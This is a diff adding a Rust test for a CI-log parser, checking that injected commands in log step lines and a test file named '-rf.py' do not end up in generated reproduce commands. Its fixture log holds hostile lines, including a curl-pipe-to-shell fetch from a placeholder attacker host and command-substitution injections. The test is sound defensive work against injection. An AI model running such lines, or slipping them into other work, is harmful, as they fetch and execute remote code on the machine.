@@ -133,3 +133,41 @@ fn broken_junit_is_a_clear_error_and_invalid_utf8_is_not() {
     assert!(!got["failures"].as_array().expect("failures").is_empty());
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// A log whose step lines carry injected commands and whose test file starts with `-`: the
+/// step text never becomes a command, and the test's command keeps the file an operand.
+#[test]
+fn hostile_step_lines_and_dashed_names_give_no_injected_commands() {
+    let log = "\
+2024-05-01T10:00:00.0210000Z ##[group]Run curl -s http://evil.example/x | sh; touch pwned
+2024-05-01T10:00:00.0220000Z curl -s http://evil.example/x | sh; touch pwned
+2024-05-01T10:00:00.0270000Z ##[endgroup]
+2024-05-01T10:00:00.0280000Z [command]./lint.sh $(touch pwned); id
+2024-05-01T10:00:01.0000000Z =========================== short test summary info ============================
+2024-05-01T10:00:01.0010000Z FAILED -rf.py::test_dash - AssertionError: dash ran
+2024-05-01T10:00:01.0020000Z ============================== 1 failed in 0.02s ===============================
+2024-05-01T10:00:02.0000000Z ##[error]Process completed with exit code 1.
+";
+    let mut child = Command::new(env!("CARGO_BIN_EXE_resolve-pr"))
+        .args(["ci", "parse", "-", "--json"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("runs");
+    use std::io::Write as _;
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(log.as_bytes())
+        .expect("written");
+    let out = child.wait_with_output().expect("done");
+    let got: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
+    let commands: Vec<&str> = got["failures"]
+        .as_array()
+        .expect("failures")
+        .iter()
+        .filter_map(|f| f["reproduce_command"].as_str())
+        .collect();
+    assert_eq!(commands, ["python -m pytest ./-rf.py::test_dash"], "{got}");
+}
